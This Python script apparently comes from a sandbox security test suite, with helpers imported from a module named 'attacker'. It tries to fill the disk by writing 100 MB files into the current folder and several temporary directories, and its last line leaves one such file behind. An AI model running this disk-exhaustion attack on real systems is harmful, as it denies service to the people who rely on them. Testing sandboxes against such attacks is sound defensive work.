"""Fills the disk from a file in its own folder and in every folder that it knows."""

import os
import tempfile

from attacker import PLACES, won

for folder in (".", tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", PLACES["temporary"]):
    written, path = 0, os.path.join(folder, PLACES["mark"])
    try:
        with open(path, "wb") as file:
            while written < 100_000_000:
                written += file.write(bytes(1_000_000))
        won(f"filled {folder}")
    except OSError as error:
        print(error)
    if os.path.exists(path):
        os.unlink(path)
open("file", "wb").write(bytes(100_000_000))
